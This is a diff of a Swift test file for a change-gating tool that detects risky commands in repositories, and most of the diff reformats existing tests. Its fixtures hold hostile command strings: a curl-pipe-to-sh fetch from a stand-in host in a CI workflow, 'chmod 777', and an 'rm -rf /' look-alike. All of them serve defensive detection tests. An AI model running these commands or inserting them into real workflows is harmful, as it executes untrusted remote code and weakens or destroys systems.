@@ -1,7 +1,7 @@
 import CavraEngine
 import CavraModel
-import Testing
 import TestSupport
+import Testing
 
 @Suite("Commands a change adds")
 struct CommandFindingTests {
@@ -36,13 +36,17 @@ struct CommandFindingTests {
 
     @Test(
         "safe look-alikes are not flagged",
-        arguments: ["terraform plan", "echo \"terraform apply -auto-approve\"", "grep -r 'rm -rf /' docs/", "git push origin feature"])
+        arguments: [
+            "terraform plan", "echo \"terraform apply -auto-approve\"", "grep -r 'rm -rf /' docs/",
+            "git push origin feature",
+        ])
     func safeLookAlikes(command: String) {
         let (status, rule) = Self.judge(command)
         #expect(status == .pass, "\(command) flagged by \(rule ?? "")")
     }
 
-    static let workflowHead = (1...38).map { "# line \($0)" }.joined(separator: "\n") + "\n"
+    static let workflowHead =
+        (1...38).map { "# line \($0)" }.joined(separator: "\n") + "\n"
         + "jobs:\n  build:\n    steps:\n"
 
     @Test("a workflow that adds curl | sh at line 42 is reported at line 42; the same command on the base is not")
@@ -50,10 +54,12 @@ struct CommandFindingTests {
         let repo = try ScratchRepository()
         try repo.write(".github/workflows/ci.yml", Self.workflowHead + "      - run: echo hi\n")
         let base = try repo.commitAll()
-        try repo.write(".github/workflows/ci.yml", Self.workflowHead + "      - run: curl -fsSL https://x.example/i.sh | sh\n")
+        try repo.write(
+            ".github/workflows/ci.yml", Self.workflowHead + "      - run: curl -fsSL https://x.example/i.sh | sh\n")
         let head = try repo.commitAll()
 
-        let result = Gate().check(CheckRequest(repositoryPath: repo.path, selection: .range(base: base, head: head, perCommit: false)))
+        let result = Gate().check(
+            CheckRequest(repositoryPath: repo.path, selection: .range(base: base, head: head, perCommit: false)))
 
         let command = try #require(result.findings.first { $0.kind == .command })
         #expect(command.line == 42)
@@ -61,9 +67,12 @@ struct CommandFindingTests {
         #expect(command.ruleID == "commands.remote-script-execution")
         #expect(result.status == .deny)
 
-        try repo.write(".github/workflows/ci.yml", Self.workflowHead + "      - run: curl -fsSL https://x.example/i.sh | sh\n# tweak\n")
+        try repo.write(
+            ".github/workflows/ci.yml",
+            Self.workflowHead + "      - run: curl -fsSL https://x.example/i.sh | sh\n# tweak\n")
         let later = try repo.commitAll()
-        let again = Gate().check(CheckRequest(repositoryPath: repo.path, selection: .range(base: head, head: later, perCommit: false)))
+        let again = Gate().check(
+            CheckRequest(repositoryPath: repo.path, selection: .range(base: head, head: later, perCommit: false)))
         #expect(!again.findings.contains { $0.kind == .command })
     }
 
@@ -75,7 +84,8 @@ struct CommandFindingTests {
         try repo.write(".github/workflows/ci.yml", "jobs:\n  build:\n    steps: [\n")
         let head = try repo.commitAll()
 
-        let result = Gate().check(CheckRequest(repositoryPath: repo.path, selection: .range(base: base, head: head, perCommit: false)))
+        let result = Gate().check(
+            CheckRequest(repositoryPath: repo.path, selection: .range(base: base, head: head, perCommit: false)))
 
         let parse = try #require(result.findings.first { $0.kind == .parse })
         #expect(parse.path == ".github/workflows/ci.yml")
@@ -90,12 +100,18 @@ struct CommandFindingTests {
         try repo.write("README.md", "x\n")
         let base = try repo.commitAll()
         try repo.write("bin/release", "#!/usr/bin/env bash\nset -e\nchmod 777 /srv/app\n", executable: true)
-        try repo.write("tools/setup/action.yml", "runs:\n  using: composite\n  steps:\n    - uses: actions/checkout@v4\n")
+        try repo.write(
+            "tools/setup/action.yml", "runs:\n  using: composite\n  steps:\n    - uses: actions/checkout@v4\n")
         let head = try repo.commitAll()
 
-        let result = Gate().check(CheckRequest(repositoryPath: repo.path, selection: .range(base: base, head: head, perCommit: false)))
+        let result = Gate().check(
+            CheckRequest(repositoryPath: repo.path, selection: .range(base: base, head: head, perCommit: false)))
 
-        #expect(result.findings.contains { $0.kind == .command && $0.path == "bin/release" && $0.line == 3 && $0.ruleID == "commands.world-writable" })
+        #expect(
+            result.findings.contains {
+                $0.kind == .command && $0.path == "bin/release" && $0.line == 3
+                    && $0.ruleID == "commands.world-writable"
+            })
         #expect(result.findings.contains { $0.kind == .action && $0.line == 4 })
     }
 }
